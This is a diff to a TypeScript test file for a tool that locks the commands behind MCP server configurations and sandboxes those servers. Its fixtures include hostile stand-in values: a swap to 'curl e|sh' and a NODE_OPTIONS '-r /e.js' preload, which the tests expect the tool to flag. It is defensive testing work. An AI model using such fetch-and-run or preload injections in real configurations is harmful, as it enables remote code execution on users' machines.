@@ -1,5 +1,14 @@
 import assert from 'node:assert/strict'
-import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
+import { spawn } from 'node:child_process'
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  writeFileSync,
+} from 'node:fs'
 import { createServer } from 'node:net'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
@@ -82,6 +91,80 @@ test('another program under the name of a server is a change of the plan that na
     )
   }))
 
+const started = (args: readonly string[], env: Readonly<Record<string, string>> = {}): string =>
+  JSON.stringify({ mcpServers: { files: { command: args[0], args: args.slice(1), env } } })
+
+const swaps: readonly (readonly [before: string, after: string, isOther: boolean])[] = [
+  [started(['sh', '-c', 'echo one; npx -y @acme/files']), started(['sh', '-c', 'curl e|sh']), true],
+  [started(['node', '-e', 'require(1)']), started(['node', '-e', 'require(2)']), true],
+  [
+    started(['npx', 'x'], { NODE_OPTIONS: '' }),
+    started(['npx', 'x'], { NODE_OPTIONS: '-r /e.js' }),
+    true,
+  ],
+  [
+    started(['npx', 'x', 'https://a.example/m?t=1']),
+    started(['npx', 'x', 'https://b.example/m?t=1']),
+    true,
+  ],
+  // What a secret is changes nothing, and no digest of it is kept.
+  [started(['npx', 'x'], { API_TOKEN: 'one' }), started(['npx', 'x'], { API_TOKEN: 'two' }), false],
+  [
+    started(['npx', 'x', '--token', 'one two']),
+    started(['npx', 'x', '--token', 'three four']),
+    false,
+  ],
+  [
+    started(['npx', 'x', 'https://a.example/m?t=1']),
+    started(['npx', 'x', 'https://a.example/m?t=2']),
+    false,
+  ],
+]
+
+for (const [before, after, isOther] of swaps)
+  test(`what is started is locked, secrets are not: ${after.slice(24)}`, () =>
+    inDesk((root) => {
+      writeFileSync(join(root, '.mcp.json'), before)
+      assert.equal(rtt(root, ['up']).exit, 0)
+      writeFileSync(join(root, '.mcp.json'), after)
+      assert.equal(rtt(root, ['plan', '--check']).exit, isOther ? 4 : 0)
+    }))
+
+test('what was started ends with the program that started it, however that ends', {
+  skip,
+}, async () => {
+  const token = `rtt-hangs-${process.pid}`
+  const running = (): boolean =>
+    readdirSync('/proc')
+      .filter((name) => /^\d+$/.test(name))
+      .some((pid) => {
+        try {
+          return readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(`\0${token}`)
+        } catch {
+          return false
+        }
+      })
+  const root = mkdtempSync(join(tmpdir(), 'rtt-mcp-'))
+  mkdirSync(join(root, '.git'))
+  writeFileSync(join(root, 'server.mjs'), program)
+  try {
+    const bin = join(import.meta.dirname, '../../../bin/rtt')
+    const args = [bin, 'mcp', 'lock', 'files', '--', process.execPath, 'server.mjs', 'hangs', token]
+    const child = spawn(process.execPath, args, { cwd: root, stdio: 'ignore' })
+    const until = async (is: boolean): Promise<void> => {
+      for (let i = 0; i < 100 && running() !== is; i++)
+        await new Promise((go) => setTimeout(go, 50))
+    }
+    await until(true)
+    await new Promise((go) => setTimeout(go, 500))
+    child.kill('SIGKILL')
+    await until(false)
+    assert.ok(!running(), 'the server outlived the program that asked it')
+  } finally {
+    rmSync(root, { recursive: true, force: true })
+  }
+})
+
 test('the tools of a server are written down, and each change of them is told with its line', () =>
   inDesk((root) => {
     assert.equal(rtt(root, ['up']).exit, 0)
@@ -162,25 +245,38 @@ test('a program in the sandbox writes nothing, calls nobody and knows no secret'
   const server = createServer((socket) => socket.end()).listen(0, '127.0.0.1')
   await new Promise((done) => server.once('listening', done))
   const { port } = server.address() as { port: number }
+  const outside = mkdtempSync(join(tmpdir(), 'rtt-outside-'))
+  const path = join(outside, 'socket')
+  const local = createServer((socket) => socket.end()).listen(path)
+  await new Promise((done) => local.once('listening', done))
   try {
     inDesk((root) => {
+      rtt(root, ['up'])
       const ask = (...flags: string[]): string => {
         const args = ['mcp', 'lock', 'files', ...flags, '--', process.execPath, 'server.mjs']
         const env = { SECRET: 'hunter2', WORD: 'given' }
-        const done = rtt(root, [...args, 'probes', String(port), '--json'], { env })
+        const done = rtt(root, [...args, 'probes', String(port), path, '--json'], { env })
         assert.equal(done.exit, 0, done.stderr)
         return JSON.parse(readFileSync(join(root, list), 'utf8')).tools[0].description
       }
-      assert.equal(ask(), 'files refused, network refused, secret none, word none')
+      assert.equal(
+        ask(),
+        'files refused, key hidden, socket refused, network refused, secret none, word none',
+      )
       assert.equal(
         ask('--network', '--env', 'WORD'),
-        'files refused, network open, secret none, word given',
+        'files refused, key hidden, socket refused, network open, secret none, word given',
       )
       assert.ok(!existsSync(join(root, 'stolen')))
-      assert.equal(ask('--no-sandbox'), 'files written, network open, secret none, word none')
+      assert.equal(
+        ask('--no-sandbox'),
+        'files written, key read, socket open, network open, secret none, word none',
+      )
     })
   } finally {
     server.close()
+    local.close()
+    rmSync(outside, { recursive: true, force: true })
   }
 })
 
